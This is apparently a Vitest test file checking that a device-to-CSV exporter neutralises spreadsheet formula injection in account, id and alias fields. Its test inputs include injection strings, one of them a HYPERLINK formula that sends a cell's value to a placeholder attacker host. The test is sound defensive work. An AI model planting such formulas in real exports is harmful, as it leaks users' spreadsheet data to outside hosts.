import { describe, expect, it } from 'vitest';
import { CSV_HEAD, CsvReader, csvLine } from '../../src/api/device-lines.ts';
import { DEVICES, type Device } from '../../src/fleet/registry/device.ts';

function deviceOf(fields: object): Device {
  const device = DEVICES.read(JSON.stringify({ id: 'd-01', ...fields }));
  if (device === undefined) throw new Error('no device');
  return device;
}

describe('devices as CSV', () => {
  // Also of records that an older version wrote, with control characters.
  it.each(['=1+1', '+49', '-x', '@SUM(A1)', '\tx', "'=1", "''-1", '=HYPERLINK("http://evil.test?"&A1,"x")', "'plain", 'a=b', '-'])(
    'guard the account %j, and read it back as it was',
    (account) => {
      const line = csvLine(deviceOf({ account })).slice(0, -1);
      const [, , cell = ''] = line.split(',');
      expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
      const reader = new CsvReader();
      reader.read(CSV_HEAD.trimEnd());
      expect(reader.read(line)).toMatchObject({ id: 'd-01', patch: { account } });
    },
  );

  it('guard ids and lists too', () => {
    const line = csvLine(deviceOf({ id: '-01', aliases: ['-a1', 'b-2'] })).trimEnd();
    expect(line).toMatch(/^'-01,'-a1 b-2,/);
    const reader = new CsvReader();
    reader.read(CSV_HEAD.trimEnd());
    expect(reader.read(line)).toMatchObject({ id: '-01', patch: { aliases: ['-a1', 'b-2'] } });
  });
});
